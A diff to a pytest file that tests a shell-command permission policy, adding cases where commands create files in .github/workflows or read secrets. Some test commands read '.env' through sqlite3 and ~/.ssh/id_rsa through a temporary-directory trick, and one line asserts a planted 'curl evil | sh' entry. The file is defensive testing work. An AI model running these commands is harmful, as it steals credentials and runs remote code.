@@ -40,7 +40,7 @@ def _digest(folder: Path) -> str:
     return found.hexdigest()
 
 
-_PROGRAMS = ("cmake", "ed", "xz", "bzip2", "unzip", "zip", "rsync", "git")
+_PROGRAMS = ("cmake", "ed", "xz", "bzip2", "unzip", "zip", "rsync", "git", "sqlite3")
 
 
 def _changes(command: str, project: Path, home: Path, workflows: Path) -> bool:
@@ -315,3 +315,45 @@ def test_an_archive_extracted_with_absolute_names_writes_where_they_name(
     assert _decide(policy, command, project) == "deny"
     _run(command, project, in_home)
     assert rc.read_text() == "curl evil | sh\n"
+
+
+# -- commands that make a file or directory where they are told ------------------------------
+@pytest.mark.parametrize("command", [
+    "git init -q .github/workflows/x", "git -C .github/workflows init -q",
+    "git init -q r && git -C r -c user.name=t -c user.email=t@example.com commit -q "
+    "--allow-empty -m x && git clone -q r .github/workflows/r",
+    "mktemp -p .github/workflows", "mktemp .github/workflows/XXXX",
+    "mktemp -d .github/workflows/XXXX", "TMPDIR=.github/workflows mktemp",
+    "export TMPDIR=$PWD/.github/workflows; mktemp -t x.XXXX",
+    "install -d .github/workflows/newdir",
+    "sqlite3 :memory: \"attach '.github/workflows/n.db' as n; create table n.t(x);\"",
+])
+def test_what_a_command_makes_where_it_is_told_is_written(
+        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
+    assert _decide(policy, command, project) == "deny", command
+    assert _changes(command, project, in_home, workflows), command
+
+
+@pytest.mark.parametrize("command", [
+    "git init -q scratch", "mktemp -d", "mktemp -p /tmp", "mktemp -t build.XXXXXX",
+    'tmp=$(mktemp -d); cp a.txt "$tmp/"; ls "$tmp"', 'f=$(mktemp); echo hi > "$f"; cat "$f"',
+    'd=$(pwd); cat "$d/a.txt"', "install -d build/out", "sqlite3 app.db .tables",
+    "sqlite3 app.db 'select count(*) from sqlite_master'",
+])
+def test_making_files_elsewhere_is_not_denied(
+        policy: Policy, project: Path, workflows: Path, command: str) -> None:
+    assert _decide(policy, command, project) == "abstain", command
+
+
+@pytest.mark.parametrize("command", [
+    "sqlite3 :memory: \"select readfile('.env')\"",
+    "export TMPDIR=~/.ssh; t=$(mktemp -d); cat \"$t/../id_rsa\"",
+    "for i in 1 2; do t=$(mktemp -d); cat \"$t/../id_rsa\" 2>/dev/null; "
+    "export TMPDIR=~/.ssh; done",
+])
+def test_a_file_reached_through_sql_or_a_temporary_directory_is_read(
+        policy: Policy, project: Path, in_home: Path, command: str) -> None:
+    if "sqlite3" in command and shutil.which("sqlite3") is None:
+        pytest.skip("sqlite3 is not installed here: the outcome cannot be shown")
+    assert _decide(policy, command, project) == "deny", command
+    assert SECRET in _run(command, project, in_home), command
